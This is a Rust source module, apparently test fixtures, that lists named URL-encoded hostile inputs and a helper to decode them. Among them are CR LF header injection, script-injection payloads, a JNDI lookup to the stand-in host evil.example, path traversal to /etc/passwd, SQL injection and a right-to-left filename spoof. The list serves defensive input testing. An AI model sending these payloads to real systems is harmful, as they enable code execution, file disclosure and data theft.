//! Hostile values, encoded for a query or a form.

/// A value and its name.
pub(super) struct Value {
    pub(super) name: &'static str,
    pub(super) encoded: String,
}

const FIXED: [(&str, &str); 26] = [
    ("header by CR LF", "a%0D%0ASet-Cookie:%20evil=1"),
    (
        "body by CR LF",
        "a%0D%0A%0D%0A%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    ),
    ("lone CR", "a%0Db"),
    ("lone LF", "a%0Ab"),
    ("NUL", "a%00b"),
    ("tab", "a%09b"),
    ("vertical tab", "a%0Bb"),
    ("delete", "a%7Fb"),
    ("script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    (
        "end of an attribute",
        "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    ),
    ("event handler", "%22%20onfocus=alert(1)%20autofocus=%22"),
    ("javascript URL", "javascript:alert(1)"),
    (
        "data URL",
        "data:text%2Fhtml,%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    ),
    (
        "templates",
        "%7B%7B7*7%7D%7D$%7Bjndi:ldap:%2F%2Fevil.example%7D",
    ),
    ("traversal", "..%2F..%2F..%2Fetc%2Fpasswd"),
    ("traversal encoded twice", "%252e%252e%252fetc"),
    ("prototype", "__proto__"),
    ("constructor", "constructor"),
    ("SQL", "'%20OR%201=1%20--"),
    ("right-to-left override", "%E2%80%AEgnp.exe"),
    ("byte order mark", "%EF%BB%BFa"),
    ("invalid UTF-8", "%FF%FEa"),
    ("overlong slash", "%C0%AF"),
    ("surrogate", "%ED%A0%80"),
    ("lone percent sign", "%"),
    ("bad hexadecimal digits", "%zz"),
];

/// All values, with one of 9,000 letters.
pub(super) fn values() -> Vec<Value> {
    let long = Value {
        name: "9,000 letters",
        encoded: "A".repeat(9_000),
    };
    FIXED
        .into_iter()
        .map(|(name, encoded)| Value {
            name,
            encoded: encoded.to_owned(),
        })
        .chain([long])
        .collect()
}

/// The value as a server decodes it.
pub(super) fn decoded(encoded: &str) -> String {
    url::form_urlencoded::parse(format!("value={encoded}").as_bytes())
        .next()
        .map(|(_, value)| value.into_owned())
        .unwrap()
}
